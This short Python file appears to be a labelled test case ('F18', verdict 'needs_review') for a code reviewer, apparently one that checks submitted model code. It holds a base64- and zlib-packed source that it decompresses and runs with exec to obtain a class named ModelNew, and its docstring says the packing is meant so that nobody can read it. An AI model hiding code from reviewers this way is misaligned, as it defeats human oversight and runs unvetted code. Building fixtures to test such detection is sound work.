"""F18: carries its source packed, so that nobody can read it.

Verdict: needs_review.
"""

import base64
import zlib


SOURCE = (
    "eNpNjmEKwyAMhf/nFPmpMDzAYDfYdgWRmqLgYomKPf5s6bq+Xy+85H2JnyVLxZplChAvg2FGV5AZAKbkSsFX9pTe1B"
    "WzGb4l0nfAIU8zWhs5VmtVoTTfsEdfwxFvKm0hUdqca/ofjQOTIpMTfAyeee5e7RW/JjhBc5buxB+c9cIQqk34+L46"
    "DupSrVat4Qs8cEov"
)
made = {}
exec(zlib.decompress(base64.b64decode(SOURCE)), made)
ModelNew = made["ModelNew"]
